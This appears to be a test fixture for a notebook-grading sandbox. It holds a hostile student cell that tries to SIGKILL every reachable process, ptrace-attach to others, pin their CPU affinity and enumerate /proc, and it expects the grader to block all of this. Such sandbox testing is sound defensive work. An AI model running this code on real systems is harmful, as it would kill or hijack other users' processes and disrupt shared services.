"""Kill, trace and slow down everything that can be reached: the grader, the zygote, other students' kernels."""

ENTRY, FAMILY = 50, "C"
EXPECTED = {"test_small_graph": "failed"}
TIER = "full"
UNSAFE_FOR_NBGRADER = True
CELLS = {
    "small_graph": """
import ctypes
import os
import signal


def small_graph(x, y, z):
    return 0.0, x, y, z


libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
own = {int(name) for name in os.listdir("/proc/self/task")}  # a thread's number reaches its process
for pid in [-1, 0, os.getppid(), *range(2, 60_000)]:
    if pid == 0 or pid in own:
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        if pid > 0:
            print("STOLEN kill of", pid)
    except OSError:
        pass
    if 0 < pid < 5000 and libc.ptrace(16, pid, 0, 0) == 0:
        print("STOLEN trace of", pid)
    if 0 < pid < 5000:
        try:
            os.sched_setaffinity(pid, {0})
            print("STOLEN affinity of", pid)
        except OSError:
            pass
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        print("STOLEN sight of process", name)
""",
}
